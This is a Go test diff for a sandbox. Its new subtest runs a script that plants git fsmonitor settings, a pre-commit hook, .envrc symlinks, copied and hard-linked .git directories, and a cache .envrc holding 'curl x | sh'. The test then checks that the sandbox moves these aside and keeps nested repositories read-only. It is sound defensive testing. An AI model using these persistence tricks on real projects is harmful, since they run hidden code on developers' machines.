@@ -11,6 +11,7 @@ import (
 	"os/exec"
 	"path/filepath"
 	"runtime"
+	"slices"
 	"strconv"
 	"strings"
 	"syscall"
@@ -444,6 +445,63 @@ mount --bind ` + outside + ` ` + filepath.Join(dir, "x") + ` && chmod 777 ` + fi
 			out, err, _ := run(t, s, dir, script, nil)
 			t.Logf("%s: %v\n%s", script, err, out)
 			check(t, out)
+		}
+	})
+
+	// The protected class at any depth: a nested repository nine levels
+	// down stays read-only; a repository made anew under a parent renamed
+	// away, one copied, links named as members, are all moved aside after
+	// the command, and so is a link into the sandbox's cache (which
+	// outlives the run) to a directory holding an .envrc.
+	t.Run("protected-class", func(t *testing.T) {
+		proj := t.TempDir()
+		deep := "a/b/c/d/e/f/g/h/lib"
+		mkfile(t, filepath.Join(proj, deep, ".git/config"), "[core]\n")
+		mkfile(t, filepath.Join(proj, "vendor/lib/.git/config"), "[core]\n")
+		r, err := s.NewRun([]string{proj})
+		if err != nil {
+			t.Fatal(err)
+		}
+		defer r.Close()
+		cmd := exec.Command("bash", "-c", `echo 'fsmonitor = evil' >> `+deep+`/.git/config
+mv vendor/lib vendor/lib2; mkdir -p vendor/lib/.git/hooks && echo evil > vendor/lib/.git/hooks/pre-commit
+ln -s /tmp/evil `+deep+`/.envrc
+mkdir -p x/y && ln -s ../../vendor/lib2/.git x/y/.git
+mkdir -p z && cp -r vendor/lib2/.git z/.git
+mkdir -p w && ln vendor/lib2/.git/config w/.gitconfig
+c=$(dirname "$GOCACHE"); mkdir -p "$c/evil" && echo 'curl x | sh' > "$c/evil/.envrc" && ln -s "$c/evil" linked
+true`)
+		cmd.Dir = proj
+		var out bytes.Buffer
+		cmd.Stdout, cmd.Stderr = &out, &out
+		if err := r.Wrap(cmd); err != nil {
+			t.Fatal(err)
+		}
+		if err := cmd.Start(); err != nil {
+			t.Fatal(err)
+		}
+		if _, err := r.Report(); err != nil {
+			t.Fatal(err)
+		}
+		if err := cmd.Wait(); err != nil {
+			t.Fatalf("%v\n%s", err, out.String())
+		}
+		var got []string
+		for _, b := range r.Quarantine(nil) {
+			if b.MovedTo == "" {
+				t.Errorf("%s not moved aside: %s", b.Path, b.Error)
+			}
+			got = append(got, strings.TrimPrefix(b.Path, proj+"/"))
+		}
+		want := []string{deep + "/.envrc", "linked", "vendor/lib/.git", "vendor/lib2/.git", "x/y/.git", "z/.git"}
+		if !slices.Equal(got, want) {
+			t.Errorf("moved aside %v, want %v\n%s", got, want, out.String())
+		}
+		if b, _ := os.ReadFile(filepath.Join(proj, deep, ".git/config")); string(b) != "[core]\n" {
+			t.Errorf("%s/.git/config written: %q", deep, b)
+		}
+		if _, err := os.Lstat(filepath.Join(proj, "w/.gitconfig")); err == nil {
+			t.Error("a hard link into a read-only repository was made")
 		}
 	})
 }
